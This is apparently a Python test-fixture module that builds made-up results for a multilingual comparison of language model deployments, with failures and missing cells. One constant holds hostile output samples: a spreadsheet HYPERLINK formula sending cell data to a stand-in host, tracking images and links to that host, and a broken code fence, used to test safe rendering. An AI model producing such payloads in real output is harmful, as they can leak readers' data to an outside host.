"""Results of a comparison, made by hand: several languages, scripts and faults, hostile texts.

results()          two deployments, four languages; a failure, a missing cell, references, answers
asked(count)       many prompts in German of three deployments, with answers
"""

from __future__ import annotations

from slm_backends.chat import About
from slm_backends.multilingual.plan import Plan, Question
from slm_backends.multilingual.results import Cell, Results

FIRST, SECOND = "small@onnx", "large@ollama"
GERMAN = "Der Regen entsteht, wenn Wasser in der Luft zu Tropfen wird und zur Erde fällt."
ENGLISH = "Rain forms when water in the air turns into drops and falls down to the ground."
CHINESE = "空气中的水汽变成水滴，落到地面上，这就是下雨。"
ARABIC = "يتكون المطر عندما يتحول بخار الماء في الهواء إلى قطرات تسقط على الأرض."
#: What would load a picture, run a formula, or follow a link, if a reader let it.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1)\n![pixel](http://evil.example/p.png)\n'
    "<img src=http://evil.example/q.png> [press](http://evil.example)\n"
    "````\n# Out of the fence\n| a | b |\n|---|---|\n````"
)

QUESTIONS = (
    Question("ask/rain/en", "en", "en", "Why does it rain?", content="Why does it rain?"),
    Question("ask/rain/de", "de", "de", "Warum regnet es?", reference=GERMAN),
    Question("ask/rain/zh", "zh", "zh", "为什么会下雨？", system="回答要简短。"),
    Question("ask/rain/ar", "ar", "ar", "لماذا تمطر؟"),
    Question("ask/sum/ar", "ar", "ar", "كم يساوي ٣ + ٤؟", answer="7"),
)
ABOUTS = {FIRST: About("ONNX Runtime GenAI", "0.18", "cpu", "int4 | ONNX")}


def cell(question: str, deployment: str, text: str, **given: object) -> Cell:
    """A whole reply of 21 tokens, 10 tokens a second, unless given otherwise."""
    known = {
        "finish_reason": "stop",
        "prompt_tokens": 10,
        "completion_tokens": 21,
        "counted": True,
        "wait_s": 0.25,
        "decode_s": 2.0,
        "total_s": 2.25,
    }
    return Cell(question, deployment, text, **(known | given))  # type: ignore[arg-type]


def results() -> Results:
    """The first deployment slips into English, and one of its replies is hostile. The second has a
    failure, and its last cell is missing."""
    cells = (
        cell("ask/rain/en", FIRST, HOSTILE),
        cell("ask/rain/de", FIRST, ENGLISH),
        cell("ask/rain/zh", FIRST, CHINESE, prompt_tokens=25),
        cell("ask/rain/ar", FIRST, ARABIC, prompt_tokens=40, finish_reason="length"),
        cell("ask/sum/ar", FIRST, "الجواب هو ٧."),
        cell("ask/rain/en", SECOND, ENGLISH),
        cell("ask/rain/de", SECOND, GERMAN),
        cell("ask/rain/zh", SECOND, "", error="It broke | off: [why](http://evil.example)"),
        cell("ask/rain/ar", SECOND, ENGLISH),
    )
    plan = Plan("ask", (FIRST, SECOND), QUESTIONS, title="Rain <b>everywhere</b>")
    return Results(
        plan,
        {one.key: one for one in cells},
        dict(ABOUTS),
        made="2026-11-23T02:00:00+00:00",
        versions={"python": "3.11"},
    )


def asked(count: int) -> Results:
    """Word problems in German of three deployments: the first always fails, the second is right in
    every other one, the third always."""
    questions = tuple(
        Question(f"solve/{number}/de", "de", "de", f"Was ist {number} + 1?", answer=str(number + 1))
        for number in range(count)
    )
    cells = [
        made
        for number in range(count)
        for made in (
            cell(f"solve/{number}/de", "a", "", error="No."),
            cell(f"solve/{number}/de", "b", f"Es ist {number + 1 + number % 2}."),
            cell(f"solve/{number}/de", "c", f"Das Ergebnis ist {number + 1}."),
        )
    ]
    return Results(Plan("solve", ("a", "b", "c"), questions), {one.key: one for one in cells})
